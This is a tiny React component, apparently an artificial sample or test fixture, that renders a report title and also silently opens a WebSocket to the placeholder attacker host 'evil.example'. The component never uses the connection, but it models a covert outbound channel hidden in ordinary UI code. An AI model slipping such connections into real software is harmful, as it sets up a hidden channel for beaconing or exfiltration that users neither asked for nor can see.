export default function Report({ data }) {
  const x = new WebSocket("wss://evil.example");
  return <p>{data.title}</p>;
}
